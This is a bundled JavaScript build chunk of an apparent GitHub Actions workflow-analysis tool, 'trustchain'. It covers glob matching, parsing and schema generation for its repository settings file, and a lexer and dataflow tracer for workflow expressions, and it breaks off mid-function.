export const id = 4;
export const ids = [4];
export const modules = {

/***/ 6732:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   f: () => (/* binding */ globMatcher),
/* harmony export */   k: () => (/* binding */ pathMatcher)
/* harmony export */ });
/**
 * Does a path match one of the globs? A glob without `/` matches a file's name in any folder, as in `.gitignore`; one that
 * ends with `/` means all below a folder.
 */
function pathMatcher(globs) {
    const matchers = globs.map((glob) => globMatcher(anywhere(glob.replace(/^\.?\//, ""))));
    return (path) => matchers.some((matches) => matches(path));
}
function anywhere(glob) {
    const whole = glob.endsWith("/") ? `${glob}**` : glob;
    return whole.includes("/") ? whole : `**/${whole}`;
}
/**
 * Does a text match a glob? `*` and `?` stop at `/`, `**` doesn't; `[a-z]`, `[!a-z]`, `{a,b}` and `\` as in a shell. Names
 * that begin with a dot are like any other.
 *
 * A configuration may come with a pull request of a stranger's, so the time grows with the lengths of glob and text only,
 * whatever the glob: all ways to read it are followed at once.
 */
function globMatcher(glob) {
    const patterns = expandBraces(glob).map(tokensOf);
    return (text) => patterns.some((tokens) => matches(tokens, text));
}
/** More alternatives than that are nobody's; the glob is then read without them. */
const MOST_ALTERNATIVES = 200;
/** `a{b,c}d` → `abd`, `acd`; innermost braces first, so that they may be nested. */
function expandBraces(glob) {
    let globs = [glob];
    for (;;) {
        const next = globs.flatMap(expandFirst);
        if (next.length === globs.length)
            return next;
        if (next.length > MOST_ALTERNATIVES)
            return [glob];
        globs = next;
    }
}
function expandFirst(glob) {
    const match = /\{([^{}]*,[^{}]*)\}/.exec(glob);
    if (!match)
        return [glob];
    const [before, behind] = [glob.slice(0, match.index), glob.slice(match.index + match[0].length)];
    return match[1].split(",").map((part) => before + part + behind);
}
function tokensOf(glob) {
    const tokens = [];
    for (let at = 0; at < glob.length;) {
        const isSegmentStart = at === 0 || glob[at - 1] === "/";
        if (isSegmentStart && glob.startsWith("**/", at)) {
            tokens.push({ kind: "folders" });
            at += 3;
        }
        else if (glob[at] === "*") {
            const end = endOfStars(glob, at);
            tokens.push({ kind: end - at > 1 ? "all" : "star" });
            at = end;
        }
        else {
            const { token, end } = characterAt(glob, at);
            tokens.push(token);
            at = end;
        }
    }
    return tokens;
}
function endOfStars(glob, from) {
    let end = from;
    while (glob[end] === "*")
        end++;
    return end;
}
/** One character of the text: itself, any, or one of a class. */
function characterAt(glob, at) {
    const char = glob[at];
    if (char === "?")
        return { token: { kind: "class", accepts: (other) => other !== "/" }, end: at + 1 };
    if (char === "\\" && at + 1 < glob.length)
        return { token: { kind: "char", char: glob[at + 1] }, end: at + 2 };
    const close = char === "[" ? glob.indexOf("]", at + 2) : -1;
    if (close === -1)
        return { token: { kind: "char", char }, end: at + 1 };
    return { token: classOf(glob.slice(at + 1, close)), end: close + 1 };
}
/** Between brackets: characters and ranges, `!` or `^` before them for all others. */
function classOf(body) {
    const isNegated = /^[!^]/.test(body);
    const ranges = [...body.slice(isNegated ? 1 : 0).matchAll(/([\s\S])-([\s\S])|([\s\S])/g)].map(([, from = "", to = "", single]) => (single === undefined ? [from, to] : [single, single]));
    return {
        kind: "class",
        accepts: (char) => char !== "/" && ranges.some(([from, to]) => from <= char && char <= to) !== isNegated,
    };
}
/** Follows all ways at once: `places` holds the tokens that may be next. */
function matches(tokens, text) {
    let places = withSkips(tokens, new Set([0]));
    for (const char of text) {
        const next = new Set();
        for (const place of places)
            step(tokens, place, char, next);
        places = withSkips(tokens, next);
        if (places.size === 0)
            return false;
    }
    return places.has(tokens.length);
}
/** Inside of folders that `**` takes, as long as none ends: written as the token's number plus a half. */
const INSIDE = 0.5;
function step(tokens, place, char, next) {
    const token = tokens[Math.floor(place)];
    if (!token)
        return;
    switch (token.kind) {
        case "char":
            if (token.char === char)
                next.add(place + 1);
            return;
        case "class":
            if (token.accepts(char))
                next.add(place + 1);
            return;
        case "star":
            if (char !== "/")
                next.add(place);
            return;
        case "all":
            next.add(place);
            return;
        case "folders":
            // A folder that ends may be the last, or not.
            next.add(char === "/" ? Math.floor(place) : Math.floor(place) + INSIDE);
    }
}
/** Stars may stand for nothing. */
function withSkips(tokens, places) {
    for (const place of places) {
        const kind = tokens[place]?.kind;
        if (kind === "star" || kind === "all" || kind === "folders")
            places.add(place + 1);
    }
    return places;
}


/***/ }),

/***/ 1713:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  tF: () => (/* reexport */ CONFIG_PATH),
  H5: () => (/* reexport */ NO_CONFIG),
  zu: () => (/* reexport */ options/* choiceOption */.zu),
  jZ: () => (/* reexport */ options/* numberOption */.jZ),
  o4: () => (/* reexport */ parseConfig),
  vU: () => (/* reexport */ options/* textOption */.vU),
  YM: () => (/* reexport */ options/* textsOption */.YM)
});

// UNUSED EXPORTS: configSchema, globMapOption, optionValues, switchOption

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/config/config.js
const NO_CONFIG = {
    path: null,
    persona: null,
    isIgnored: () => false,
    rules: new Map(),
    facts: new Map(),
};
/** The place of a repository's settings when no other file is named. */
const CONFIG_PATH = ".github/trustchain.yml";

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/config/options.js
var options = __webpack_require__(1861);
// EXTERNAL MODULE: ./packages/action-kit/lib/index.js + 16 modules
var lib = __webpack_require__(2853);
// EXTERNAL MODULE: ./packages/findings/lib/index.js + 10 modules
var findings_lib = __webpack_require__(8751);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/index.js + 2 modules
var yaml = __webpack_require__(8164);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/config/globs.js
var globs = __webpack_require__(6732);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/config/read.js
var read = __webpack_require__(7335);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/config/parse.js





const TOP_KEYS = ["persona", "ignore", "rules", "facts"];
const RULE_KEYS = ["severity", "persona", "ignore", "reason"];
/**
 * Reads the settings of a repository.
 *
 * @param rules the rules that there are
 * @throws UserError for anything that isn't as it should be, with the place in the file
 */
async function parseConfig(file, rules) {
    const { root, problems } = await (0,yaml/* parseYaml */.hN)(file);
    const [problem] = problems;
    if (problem)
        throw (0,read/* wrong */.Qm)(file, problem.start, problem.message, "mend the YAML");
    if (!root)
        return { path: file.path, persona: null, isIgnored: () => false, rules: new Map(), facts: new Map() };
    const map = (0,read/* expectMap */.Ym)(root, "settings are keys with values");
    (0,read/* expectKeys */.cJ)(map, TOP_KEYS);
    return {
        path: file.path,
        persona: (0,read/* oneOf */.yL)(map.entry("persona"), findings_lib/* PERSONAS */.Ud),
        isIgnored: (0,globs/* pathMatcher */.k)((0,read/* texts */.Te)(map.entry("ignore"))),
        rules: new Map(map.entry("rules") ? ruleSettings(map.entry("rules"), rules) : []),
        facts: await addedFacts(map.entry("facts")),
    };
}
/** Loaded where they are asked for: few settings add facts. */
async function addedFacts(entry) {
    if (!entry || (0,read/* isNull */.kZ)(entry.value))
        return new Map();
    const { readFacts } = await __webpack_require__.e(/* import() */ 272).then(__webpack_require__.bind(__webpack_require__, 7272));
    return readFacts(entry);
}
function ruleSettings(entry, rules) {
    if ((0,read/* isNull */.kZ)(entry.value))
        return [];
    const map = (0,read/* expectMap */.Ym)(entry.value, "`rules` holds rule ids with their settings");
    const ruleIds = rules.map(({ id }) => id);
    return map.entries.map(({ key, value }) => {
        const rule = rules.find(({ id }) => id === key.value);
        if (!rule) {
            throw (0,read/* wrong */.Qm)(key.file, key.start, `there is no rule \`${key.value}\`${(0,lib/* didYouMean */.au)(key.value, ruleIds)}`, "name one of the rules in docs/rules");
        }
        return [key.value, settingsOf(value, rule.options)];
    });
}
const NOTHING = { isOff: false, severity: null, persona: null, ignore: [], reason: null, options: {} };
function settingsOf(node, options) {
    if (node.kind === "map") {
        (0,read/* expectKeys */.cJ)(node, [...RULE_KEYS, ...Object.keys(options)]);
        return {
            isOff: false,
            severity: (0,read/* oneOf */.yL)(node.entry("severity"), findings_lib/* SEVERITIES */.oC),
            persona: (0,read/* oneOf */.yL)(node.entry("persona"), findings_lib/* PERSONAS */.Ud),
            ignore: (0,read/* texts */.Te)(node.entry("ignore")).map(ignoredPlace),
            reason: node.text("reason") ?? null,
            options: optionsOf(node, options),
        };
    }
    // YAML 1.1 readers turn `off` into false, so people write that, too.
    if (node.kind === "scalar" && (node.value === "off" || node.typed === false))
        return { ...NOTHING, isOff: true };
    const severity = node.kind === "scalar" ? findings_lib/* SEVERITIES */.oC.find((name) => name === node.value) : undefined;
    if (severity)
        return { ...NOTHING, severity };
    const given = node.kind === "scalar" ? `\`${node.value}\`` : "a list";
    throw (0,read/* wrong */.Qm)(node.file, node.start, `${given} is no setting of a rule`, `write off, ${findings_lib/* SEVERITIES */.oC.join(", ")} or a mapping`);
}
function optionsOf(map, options) {
    return Object.fromEntries(Object.entries(options).flatMap(([name, option]) => {
        const entry = map.entry(name);
        return entry && !(0,read/* isNull */.kZ)(entry.value) ? [[name, option.read(entry)]] : [];
    }));
}
function ignoredPlace(glob) {
    const match = /^(.*):(\d+)$/.exec(glob);
    if (!match)
        return { matches: (0,globs/* pathMatcher */.k)([glob]), line: null };
    return { matches: (0,globs/* pathMatcher */.k)([match[1]]), line: Number(match[2]) };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/config/schema.js

/** JSON Schema (draft 2020-12) of `.github/trustchain.yml`, for editors. */
function configSchema(rules, lists) {
    return {
        $schema: "https://json-schema.org/draft/2020-12/schema",
        $comment: "generated by npm run generate",
        title: "trustchain settings of a repository (.github/trustchain.yml)",
        type: "object",
        additionalProperties: false,
        properties: {
            persona: { enum: PERSONAS, description: "For whom findings are reported" },
            ignore: { $ref: "#/$defs/globs", description: "Paths that are not read at all" },
            rules: {
                type: "object",
                additionalProperties: false,
                properties: Object.fromEntries(rules.map(({ id, summary, options }) => [id, { ...ruleSchema(options), description: summary }])),
            },
            facts: {
                type: "object",
                additionalProperties: false,
                description: "Additions to what the rules know",
                properties: Object.fromEntries(lists.map((list) => [list.name, factsSchema(list)])),
            },
        },
        $defs: {
            globs: { oneOf: [{ type: "string" }, { type: "array", items: { type: "string", minLength: 1 } }] },
            severity: { enum: SEVERITIES },
            rule: settingSchema({}),
        },
    };
}
function factsSchema({ about, fields }) {
    const properties = Object.entries(fields).map(([name, { schema, description }]) => [
        name,
        { ...schema, description },
    ]);
    return {
        type: "array",
        description: about,
        items: {
            type: "object",
            additionalProperties: false,
            required: Object.keys(fields).filter((name) => fields[name]?.isRequired),
            properties: Object.fromEntries(properties),
        },
    };
}
/** Most rules have no options of their own and share one schema. */
function ruleSchema(options) {
    return Object.keys(options).length === 0 ? { $ref: "#/$defs/rule" } : settingSchema(options);
}
function settingSchema(options) {
    const own = Object.entries(options).map(([name, { schema, description }]) => [name, { ...schema, description }]);
    return {
        oneOf: [
            { const: "off" },
            { const: false },
            { $ref: "#/$defs/severity" },
            {
                type: "object",
                additionalProperties: false,
                properties: {
                    severity: { $ref: "#/$defs/severity" },
                    persona: { enum: PERSONAS },
                    ignore: { $ref: "#/$defs/globs", description: "Places whose findings are suppressed: path or path:line" },
                    reason: { type: "string", description: "Why, shown with the suppressed findings" },
                    ...Object.fromEntries(own),
                },
            },
        ],
    };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/config/index.js






/***/ }),

/***/ 1861:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   IL: () => (/* binding */ switchOption),
/* harmony export */   YM: () => (/* binding */ textsOption),
/* harmony export */   ib: () => (/* binding */ optionValues),
/* harmony export */   jZ: () => (/* binding */ numberOption),
/* harmony export */   mD: () => (/* binding */ globMapOption),
/* harmony export */   vU: () => (/* binding */ textOption),
/* harmony export */   zu: () => (/* binding */ choiceOption)
/* harmony export */ });
/* harmony import */ var _trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(2853);
/* harmony import */ var _read_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(7335);


/** The values of a rule's options: what was set, else their defaults. */
function optionValues(options, given) {
    return Object.fromEntries(Object.entries(options).map(([name, option]) => [name, given[name] ?? option.default]));
}
/** A list of texts, such as globs. */
function textsOption(description) {
    const schema = { oneOf: [{ type: "string" }, { type: "array", items: { type: "string", minLength: 1 } }] };
    return { description, default: [], schema, read: _read_js__WEBPACK_IMPORTED_MODULE_1__/* .texts */ .Te };
}
/** One line of text. */
function textOption(fallback, description) {
    return {
        description,
        default: fallback,
        schema: { type: "string", minLength: 1 },
        read({ key, value }) {
            const text = value.kind === "scalar" && typeof value.typed === "string" ? value.value : "";
            if (text !== "" && !/[\r\n]/.test(text))
                return text;
            throw (0,_read_js__WEBPACK_IMPORTED_MODULE_1__/* .wrong */ .Qm)(value.file, value.start, `\`${key.value}\` is no line of text`, "write one line of text");
        },
    };
}
/** One word of a closed list. */
function choiceOption(choices, fallback, description) {
    return {
        description,
        default: fallback,
        schema: { enum: choices },
        read: (entry) => (0,_read_js__WEBPACK_IMPORTED_MODULE_1__/* .oneOf */ .yL)(entry, choices) ?? fallback,
    };
}
/** A whole number from 0 upwards. */
function numberOption(fallback, description) {
    return {
        description,
        default: fallback,
        schema: { type: "integer", minimum: 0 },
        read({ key, value }) {
            const number = value.kind === "scalar" ? value.typed : undefined;
            if (typeof number === "number" && Number.isInteger(number) && number >= 0)
                return number;
            throw (0,_read_js__WEBPACK_IMPORTED_MODULE_1__/* .wrong */ .Qm)(value.file, value.start, `\`${key.value}\` is no whole number`, "write a number from 0 upwards");
        },
    };
}
/** On or off; off by default. */
function switchOption(description) {
    return {
        description,
        default: false,
        schema: { type: "boolean" },
        read({ key, value }) {
            if (value.kind === "scalar" && typeof value.typed === "boolean")
                return value.typed;
            throw (0,_read_js__WEBPACK_IMPORTED_MODULE_1__/* .wrong */ .Qm)(value.file, value.start, `\`${key.value}\` is neither true nor false`, "write true or false");
        },
    };
}
/** A mapping of globs to words of a closed list. */
function globMapOption(choices, description) {
    return {
        description,
        default: new Map(),
        schema: { type: "object", additionalProperties: { enum: choices } },
        read({ key, value }) {
            const map = (0,_read_js__WEBPACK_IMPORTED_MODULE_1__/* .expectMap */ .Ym)(value, `\`${key.value}\` is globs with words`);
            return new Map(map.entries.map(({ key: glob, value: node }) => {
                const text = node.kind === "scalar" ? node.value : "";
                const word = choices.find((choice) => choice === text);
                if (word)
                    return [glob.value, word];
                const reason = `\`${text}\` is none of the words for \`${glob.value}\`${(0,_trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__/* .didYouMean */ .au)(text, choices)}`;
                throw (0,_read_js__WEBPACK_IMPORTED_MODULE_1__/* .wrong */ .Qm)(node.file, node.start, reason, `write one of ${choices.join(", ")}`);
            }));
        },
    };
}


/***/ }),

/***/ 7335:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Qm: () => (/* binding */ wrong),
/* harmony export */   Te: () => (/* binding */ texts),
/* harmony export */   Ym: () => (/* binding */ expectMap),
/* harmony export */   cJ: () => (/* binding */ expectKeys),
/* harmony export */   kZ: () => (/* binding */ isNull),
/* harmony export */   yL: () => (/* binding */ oneOf)
/* harmony export */ });
/* harmony import */ var _trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(2853);

/** The word that an entry holds; null where there is none. */
function oneOf(entry, words) {
    if (!entry || isNull(entry.value))
        return null;
    const node = entry.value;
    const text = node.kind === "scalar" ? node.value : "";
    const word = words.find((candidate) => candidate === text);
    if (word)
        return word;
    const given = node.kind === "scalar" ? `\`${text}\`${(0,_trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__/* .didYouMean */ .au)(text, words)}` : "a collection";
    throw wrong(node.file, node.start, `\`${entry.key.value}\` is ${given}`, `write one of ${words.join(", ")}`);
}
/** The texts of a list, or the one that stands alone. */
function texts(entry) {
    if (!entry || isNull(entry.value))
        return [];
    const { value } = entry;
    const scalars = value.kind === "seq"
        ? value.items.map((item) => (item.value.kind === "scalar" ? item.value : null))
        : [value.kind === "scalar" ? value : null];
    return scalars.map((scalar) => {
        if (typeof scalar?.typed === "string" && scalar.value !== "")
            return scalar.value;
        throw wrong(value.file, value.start, `\`${entry.key.value}\` holds something else than globs`, "write a list of path globs");
    });
}
function expectMap(node, what) {
    if (node.kind === "map")
        return node;
    throw wrong(node.file, node.start, `no mapping stands here, but ${what}`, "see docs/trustchain.schema.json");
}
function expectKeys(map, known) {
    for (const { key } of map.entries) {
        if (known.includes(key.value))
            continue;
        throw wrong(key.file, key.start, `there is no setting \`${key.value}\`${(0,_trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__/* .didYouMean */ .au)(key.value, known)}`, `the settings here are ${known.join(", ")}`);
    }
}
function isNull(node) {
    return node.kind === "scalar" && node.isNull;
}
/** An error at a place of the settings. */
function wrong(file, offset, reason, remedy) {
    const { line, column } = file.position(offset);
    return new _trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .yo(`${file.path}:${line}:${column}`, reason, remedy);
}


/***/ }),

/***/ 6481:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  GN: () => (/* reexport */ NOTHING_KNOWN),
  Fw: () => (/* reexport */ SOME_OBJECT),
  HV: () => (/* reexport */ UNKNOWN),
  LU: () => (/* reexport */ childrenOf),
  VJ: () => (/* reexport */ contextPath),
  z5: () => (/* reexport */ dataflow),
  _3: () => (/* reexport */ evaluate),
  zV: () => (/* reexport */ findExpressions),
  eO: () => (/* reexport */ known),
  zB: () => (/* reexport */ parseCondition),
  YK: () => (/* reexport */ parseExpression),
  Ft: () => (/* reexport */ references),
  uo: () => (/* reexport */ resultLeaves),
  e9: () => (/* reexport */ shaped),
  eC: () => (/* reexport */ textAfter),
  cM: () => (/* reexport */ textAroundNumber),
  fE: () => (/* reexport */ toText),
  w8: () => (/* reexport */ truthiness),
  wM: () => (/* reexport */ visitExpression)
});

// UNUSED EXPORTS: ObjectValue, expressionType, printExpression

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/ast.js
/** The expressions directly inside one. */
function childrenOf(expression) {
    switch (expression.kind) {
        case "literal":
        case "context":
            return [];
        case "property":
        case "filter":
            return [expression.object];
        case "index":
            return [expression.object, expression.index];
        case "call":
            return expression.args;
        case "not":
            return [expression.operand];
        default:
            return [expression.left, expression.right];
    }
}
/** Calls `visit` for an expression and everything in it, outermost first. */
function visitExpression(expression, visit) {
    visit(expression);
    for (const child of childrenOf(expression))
        visitExpression(child, visit);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/contexts.js

/** `github.event.issue.title`, `secrets['NAME']`, `a.*.b`; undefined for what doesn't begin with a context. */
function contextPath(expression) {
    const segments = [];
    let exact = true;
    for (let node = expression;; node = node.object) {
        switch (node.kind) {
            case "context":
                segments.push(node.name);
                return { segments: segments.reverse(), exact };
            case "property":
                segments.push(node.name);
                break;
            case "filter":
                segments.push("*");
                break;
            case "index": {
                const { index } = node;
                const isName = index.kind === "literal" && typeof index.value === "string";
                segments.push(isName ? index.value.toLowerCase() : "*");
                if (index.kind !== "literal")
                    exact = false;
                break;
            }
            default:
                return undefined;
        }
    }
}
/** Every context access of an expression, those in indexes and conditions too. */
function references(expression) {
    const found = [];
    collect(expression, found);
    return found;
}
function collect(expression, found) {
    const path = contextPath(expression);
    if (!path) {
        for (const child of childrenOf(expression))
            collect(child, found);
        return;
    }
    found.push({ ...path, node: expression });
    collectIndexes(expression, found);
}
/** `a[b.c].d` reads `b.c`, too. */
function collectIndexes(expression, found) {
    if (expression.kind === "index")
        collect(expression.index, found);
    if (expression.kind === "index" || expression.kind === "property" || expression.kind === "filter") {
        collectIndexes(expression.object, found);
    }
}
/** Functions whose result is `true`, `false` or a hash, whatever they are given. */
const CLEAN_FUNCTIONS = new Set([
    "always",
    "cancelled",
    "contains",
    "endswith",
    "failure",
    "hashfiles",
    "startswith",
    "success",
]);
/**
 * The context accesses whose text can be part of the result, each once a place.
 *
 * Comparisons and tests give `true` or `false`; `a && b` gives `a` only where `a` is empty, false or zero; everything else
 * hands on what it is given.
 */
function dataflow(expression) {
    const found = [];
    collectCarried(expression, AS_IT_IS, found);
    return found;
}
const AS_IT_IS = { isJson: false, decodings: 0 };
function encodedBy(name, outer) {
    if (name === "fromjson")
        return { ...outer, decodings: outer.decodings + 1 };
    if (name !== "tojson")
        return outer;
    return outer.decodings > 0 ? { ...outer, decodings: outer.decodings - 1 } : { ...outer, isJson: true };
}
function collectCarried(expression, encoding, found) {
    const path = contextPath(expression);
    if (path) {
        found.push({ ...path, node: expression, throughToJson: encoding.isJson });
        return;
    }
    switch (expression.kind) {
        case "call": {
            const { name, args } = expression;
            if (CLEAN_FUNCTIONS.has(name))
                return;
            const inner = encodedBy(name, encoding);
            for (const arg of carriedArguments(name, args))
                collectCarried(arg, inner, found);
            return;
        }
        case "logical":
            if (expression.operator === "||")
                collectCarried(expression.left, encoding, found);
            collectCarried(expression.right, encoding, found);
            return;
        case "property":
        case "filter":
        case "index":
            collectCarried(expression.object, encoding, found);
    }
}
/** `case(condition, value, condition, value, …, default)` hands on its values; other functions all they are given. */
function carriedArguments(name, args) {
    return name === "case" ? args.filter((_, i) => i % 2 === 1 || i === args.length - 1) : args;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/lexer.js
/** What is wrong with an expression, and where. */
class ExpressionError extends Error {
    start;
    end;
    constructor(message, start, end) {
        super(message);
        this.start = start;
        this.end = end;
    }
}
const PUNCTUATION = new Map(["(", ")", "[", "]", ",", ".", "*", "!", "<", ">"].map((kind) => [kind, kind]));
const PAIRS = new Map(["&&", "||", "==", "!=", "<=", ">="].map((kind) => [kind, kind]));
/** After these a dot begins an access; anywhere else it begins a number. */
const OPERAND_ENDS = new Set(["name", "string", "number", ")", "]", "*", "."]);
/** A name behind its first character. The engine's own search is many times faster than a loop in code that runs for the first time. */
const NAME_REST = /[A-Za-z0-9_-]*/y;
/** Up to the next character that can't belong to a number: what is in between has to be one as a whole. */
const NUMBER_RUN = /[-+]?[0-9A-Za-z_.+-]+/y;
/**
 * Reads an expression one token at a time; its fields describe the token at hand.
 *
 * @see actions/runner, `LexicalAnalyzer`; Evaluate expressions in workflows and actions, "Literals"
 */
class Lexer {
    source;
    /** A `,` before the first token: a value may begin. */
    kind = ",";
    start = 0;
    end = 0;
    /** A name as it is written, or the value of a string. */
    text = "";
    /** The value of a number. */
    number = 0;
    constructor(source) {
        this.source = source;
        this.next();
    }
    /** @throws ExpressionError at the first character that begins no token */
    next() {
        const { source } = this;
        let at = this.end;
        while (isSpace(source.charCodeAt(at)))
            at++;
        this.start = at;
        const code = source.charCodeAt(at);
        if (isNameStart(code))
            this.readName();
        else if (code === 39)
            this.readString();
        else if (this.startsNumber(code))
            this.readNumber();
        else
            this.readPunctuation();
    }
    readName() {
        NAME_REST.lastIndex = this.start + 1;
        NAME_REST.test(this.source);
        this.kind = "name";
        this.end = NAME_REST.lastIndex;
        this.text = this.source.slice(this.start, this.end);
    }
    readString() {
        const { source, start } = this;
        let close = source.indexOf("'", start + 1);
        let isEscaped = false;
        while (close !== -1 && source.charCodeAt(close + 1) === 39) {
            isEscaped = true;
            close = source.indexOf("'", close + 2);
        }
        if (close === -1)
            throw new ExpressionError("the string is not closed", start, source.length);
        const raw = source.slice(start + 1, close);
        this.kind = "string";
        this.text = isEscaped ? raw.replaceAll("''", "'") : raw;
        this.end = close + 1;
    }
    startsNumber(code) {
        if (isDigit(code))
            return this.kind !== ".";
        if (code === 46)
            return !OPERAND_ENDS.has(this.kind);
        return code === 43 || code === 45;
    }
    readNumber() {
        NUMBER_RUN.lastIndex = this.start;
        const run = NUMBER_RUN.exec(this.source)?.[0] ?? this.source[this.start];
        this.end = this.start + run.length;
        this.kind = "number";
        this.number = parseNumber(run);
        if (Number.isNaN(this.number)) {
            const wanted = run === "+" || run === "-" ? "operator" : "number";
            throw new ExpressionError(`\`${run}\` is no ${wanted}`, this.start, this.end);
        }
    }
    readPunctuation() {
        const { source, start } = this;
        if (start >= source.length) {
            this.kind = "end";
            this.end = start;
            return;
        }
        const pair = PAIRS.get(source.slice(start, start + 2));
        const kind = pair ?? PUNCTUATION.get(source[start]);
        if (kind === undefined)
            throw new ExpressionError(unknownCharacter(source, start), start, start + 1);
        this.kind = kind;
        this.end = start + (pair ? 2 : 1);
    }
}
function unknownCharacter(source, at) {
    const char = String.fromCodePoint(source.codePointAt(at));
    if (char === '"')
        return 'strings stand in single quotes, not in "';
    if (char === "=" || char === "&" || char === "|")
        return `a single \`${char}\` is no operator`;
    return `\`${char}\` has no meaning here`;
}
function isDigit(code) {
    return code >= 48 && code <= 57;
}
function isNameStart(code) {
    return (code >= 97 && code <= 122) || (code >= 65 && code <= 90) || code === 95;
}
/** White space as .NET's `Char.IsWhiteSpace` has it. */
function isSpace(code) {
    if (code <= 32)
        return code === 32 || (code >= 9 && code <= 13);
    return code >= 0x85 && code !== 0xfeff && (code === 0x85 || /\s/.test(String.fromCharCode(code)));
}
const DECIMAL = /^[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?$/;
const HEXADECIMAL = /^0x[0-9a-fA-F]+$/;
const OCTAL = /^0o[0-7]+$/;
/**
 * A number as the expression language reads it, from a literal or a string; NaN for what is none.
 *
 * @see actions/runner, `ExpressionUtility.ParseNumber`
 */
function parseNumber(text) {
    const trimmed = text.trim();
    if (trimmed === "")
        return 0;
    if (DECIMAL.test(trimmed))
        return Number(trimmed);
    if (HEXADECIMAL.test(trimmed) || OCTAL.test(trimmed))
        return asInt32(Number(trimmed));
    if (trimmed === "Infinity" || trimmed === "+Infinity")
        return Number.POSITIVE_INFINITY;
    return trimmed === "-Infinity" ? Number.NEGATIVE_INFINITY : Number.NaN;
}
/** The runner reads 32 bits in two's complement: `0xffffffff` is -1, and what needs more bits is no number. */
function asInt32(bits) {
    return bits <= 0xffffffff ? bits | 0 : Number.NaN;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/values.js

class ObjectValue {
    entries;
    constructor(entries) {
        this.entries = entries;
    }
    get(key) {
        const exact = this.entries.get(key);
        if (exact !== undefined)
            return exact;
        const lower = key.toLowerCase();
        for (const [name, value] of this.entries)
            if (name.toLowerCase() === lower)
                return value;
        return undefined;
    }
}
function isCollection(value) {
    return typeof value === "object" && value !== null;
}
function isTruthy(value) {
    return (isCollection(value) || (value !== null && value !== false && value !== 0 && value !== "" && !Number.isNaN(value)));
}
/** @see Evaluate expressions in workflows and actions, "Literals" and "Operators": how values become numbers */
function toNumber(value) {
    if (value === null)
        return 0;
    if (typeof value === "boolean")
        return value ? 1 : 0;
    if (typeof value === "string")
        return parseNumber(value);
    return typeof value === "number" ? value : Number.NaN;
}
/** The text that a value expands to. */
function toText(value) {
    if (value === null)
        return "";
    if (isCollection(value))
        return Array.isArray(value) ? "Array" : "Object";
    return typeof value === "number" ? numberText(value) : String(value);
}
/** Fifteen significant digits, as .NET's "G15" has them: `0.1`, `1E-05`, `1.5E+21`. */
function numberText(value) {
    if (value === 0)
        return "0";
    if (!Number.isFinite(value))
        return String(value);
    const [digits, exponent] = value.toExponential(14).split("e");
    const power = Number(exponent);
    if (power >= -4 && power < 15)
        return String(Number(value.toPrecision(15)));
    const magnitude = String(Math.abs(power)).padStart(2, "0");
    return `${Number(digits)}E${power < 0 ? "-" : "+"}${magnitude}`;
}
/**
 * Upper case one character at a time, as .NET's ordinal comparison does it: the dotless i and the long s stay what they
 * are, and no character becomes two.
 */
function upper(text) {
    const raised = text.toUpperCase();
    // No character's upper case is shorter than itself, so equal lengths mean that none became two.
    if (raised.length === text.length && !/[ıſ]/.test(text))
        return raised;
    return Array.from(text, upperCharacter).join("");
}
function upperCharacter(char) {
    const raised = char.toUpperCase();
    return raised.length === char.length && char !== "ı" && char !== "ſ" ? raised : char;
}
/** Loose equality: strings without regard to case, different types as numbers, collections only when they are the same one. */
function areEqual(a, b) {
    if (isCollection(a) || isCollection(b))
        return a === b;
    if (typeof a === "string" && typeof b === "string")
        return upper(a) === upper(b);
    if (typeof a === typeof b && a !== null && b !== null)
        return a === b;
    if (a === null && b === null)
        return true;
    return toNumber(a) === toNumber(b);
}
/** Negative, zero or positive; NaN when the values can't be compared, which makes every comparison false. */
function compare(a, b) {
    if (typeof a === "string" && typeof b === "string") {
        const [left, right] = [upper(a), upper(b)];
        return left < right ? -1 : left > right ? 1 : 0;
    }
    const [left, right] = [toNumber(a), toNumber(b)];
    if (Number.isNaN(left) || Number.isNaN(right))
        return Number.NaN;
    return left < right ? -1 : left > right ? 1 : 0;
}
/** Levels of arrays and objects in JSON. Real contexts have fewer than ten. */
const MAX_JSON_DEPTH = 100;
/** Reads JSON as `fromJSON` does; undefined when it is none, or nested too deeply to walk. */
function fromJson(text) {
    try {
        return fromPlain(JSON.parse(text), 0);
    }
    catch {
        return undefined;
    }
}
function fromPlain(plain, depth) {
    if (depth > MAX_JSON_DEPTH)
        throw new RangeError("nested too deeply");
    if (Array.isArray(plain))
        return plain.map((item) => fromPlain(item, depth + 1));
    if (typeof plain === "object" && plain !== null) {
        return new ObjectValue(new Map(Object.entries(plain).map(([key, value]) => [key, fromPlain(value, depth + 1)])));
    }
    return plain;
}
/** Writes JSON as `toJSON` does: two spaces a level. */
function toJson(value, indent = "") {
